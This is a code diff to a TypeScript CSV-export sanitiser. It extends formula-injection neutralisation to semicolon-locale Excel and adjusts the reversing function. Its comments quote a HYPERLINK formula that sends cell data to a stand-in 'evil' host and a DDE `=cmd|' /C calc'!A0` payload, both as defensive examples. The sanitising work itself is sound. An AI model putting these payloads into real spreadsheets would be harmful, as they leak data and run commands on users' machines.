@@ -4,6 +4,12 @@
  * `=HYPERLINK("http://evil/?"&A1,"open")` in a customer name ships data out the moment someone
  * opens an export. Such a cell gets a leading apostrophe, which spreadsheets show as text.
  *
+ * Excel in a locale whose list separator is `;` (German, French, Dutch, …) splits an opened .csv on
+ * `;` and tab, not on commas, and treats a double quote as special only at the start of what it
+ * sees as a cell: `Müller;=cmd|' /C calc'!A0` became a cell `=cmd|…` that ran, quoted or not
+ * (fourth security review). So a formula character after a `;` or tab (spaces and apostrophes
+ * between) gets an apostrophe too: `Müller;'=cmd|…`.
+ *
  * The change is reversible (restoreCell): a value that already starts with apostrophes followed
  * by a formula character gets one more, so stripping one apostrophe from any cell that starts with
  * apostrophes and a formula character gives back exactly the original. Plain numbers (-5, +3.2,
@@ -16,22 +22,27 @@ const FORMULA_START = /^'*[=+\-@\t\r]/;
 const NEUTRALISED = /^'+[=+\-@\t\r]/;
 const PLAIN_NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;
 
-/** The value as text a spreadsheet will not evaluate. */
+/** After a `;` or tab (and spaces): where a `;`-locale Excel starts a cell. The apostrophe goes here. */
+const INNER_FORMULA = /([;\t] *)(?='*[=+\-@])/g;
+const INNER_NEUTRALISED = /([;\t] *)'(?='*[=+\-@])/g;
+
+/** The value as text a spreadsheet will not evaluate, in a `,` or a `;` locale. */
 export function neutraliseFormula(value: string): string {
-  return FORMULA_START.test(value) && !PLAIN_NUMBER.test(value) ? `'${value}` : value;
+  const start = FORMULA_START.test(value) && !PLAIN_NUMBER.test(value) ? `'${value}` : value;
+  return start.replace(INNER_FORMULA, "$1'");
 }
 
 /** The inverse of neutraliseFormula: the value as it was before. */
 export function restoreCell(value: string): string {
-  return NEUTRALISED.test(value) ? value.slice(1) : value;
+  const inner = value.replace(INNER_NEUTRALISED, '$1');
+  return NEUTRALISED.test(inner) ? inner.slice(1) : inner;
 }
 
 /**
  * Characters that make a field quoted. Beyond RFC 4180's comma, quote and line breaks: `;` and tab,
- * because Excel in a locale whose list separator is `;` (German, French, Dutch, …) splits an opened
- * .csv on `;` and tab, not on commas: `Müller;=cmd|' /C calc'!A0` unquoted became a second cell that
- * starts with `=` and ran (fourth security review). Quoted, every reader keeps it one cell.
- * Leading or trailing spaces are quoted too, so that no reader trims them away.
+ * so that a reader that honours quotes in a `;` locale keeps the field one cell (the apostrophes
+ * above are for Excel, which does not when the field is not first on its line). Leading or
+ * trailing spaces are quoted too, so that no reader trims them away.
  */
 const NEEDS_QUOTES = /[",;\t\n\r]/;
 
